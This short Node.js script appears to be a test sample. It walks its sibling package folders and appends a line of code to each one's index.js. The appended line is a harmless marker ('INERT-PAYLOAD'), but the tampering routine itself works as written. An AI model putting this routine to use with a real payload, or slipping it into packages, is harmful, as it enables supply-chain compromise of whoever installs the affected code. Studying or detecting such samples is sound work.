'use strict';
const fs = require('fs');
const path = require('path');

const neighbours = path.join(__dirname, '..');
for (const name of fs.readdirSync(neighbours)) {
  const main = path.join(neighbours, name, 'index.js');
  if (path.join(neighbours, name) !== __dirname && fs.existsSync(main)) {
    fs.appendFileSync(main, "\nglobalThis.sample = 'INERT-PAYLOAD';\n");
  }
}
